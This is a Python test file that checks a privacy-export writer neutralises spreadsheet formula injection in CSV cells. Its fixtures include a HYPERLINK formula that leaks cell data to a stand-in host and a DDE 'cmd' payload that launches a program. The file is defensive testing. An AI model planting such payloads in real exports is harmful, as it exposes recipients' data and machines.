"""Issue 10.7: a spreadsheet opening the export's CSV never runs a formula the customer (or anyone) typed."""

from __future__ import annotations

import csv
import io

import pytest

from privacy_center.services.export_writers import defuse_cell

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_address_csv_shows_formulas_as_text(customer, export_for, open_export):
    from shop_demo.models import Address

    Address.objects.create(user=customer, full_name=EVIL, line1="@SUM(1+1)*cmd|' /C calc'!A0",
                           line2="\tTabbed", city="-2+3", postcode="753 20", phone="+46 70 123 45 67")
    archive = open_export(export_for(user=customer))

    rows = _csv_by_field(archive, "shop_demo.address")
    assert rows[0]["full_name"] == "'" + EVIL
    assert rows[0]["line1"].startswith("'@")
    assert rows[0]["line2"] == "'\tTabbed"
    assert rows[0]["city"] == "'-2+3"
    assert rows[0]["postcode"] == "753 20"
    # data.json is the exact copy: no prefix there.
    assert archive.source("shop_demo.address")["rows"][0]["full_name"] == EVIL


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ada", "Ada"), ("", ""), ("a=b", "a=b"), (5, 5), (-5, -5), (None, None),
])
def test_defuse_cell(value, shown):
    assert defuse_cell(value) == shown


def _csv_by_field(archive, source: str) -> list[dict]:
    """The source's CSV rows keyed by field name: the CSV's header row holds the fields' labels (as data.json's
    ``fields`` give them, in the customer's language)."""
    labels = {"id": "Id", **{f["name"]: f["label"] for f in archive.source(source)["fields"]}}
    rows = list(csv.DictReader(io.StringIO(archive.read(f"csv/{source}.csv").decode())))
    assert rows and set(rows[0]) == set(labels.values())
    return [{name: row[label] for name, label in labels.items()} for row in rows]
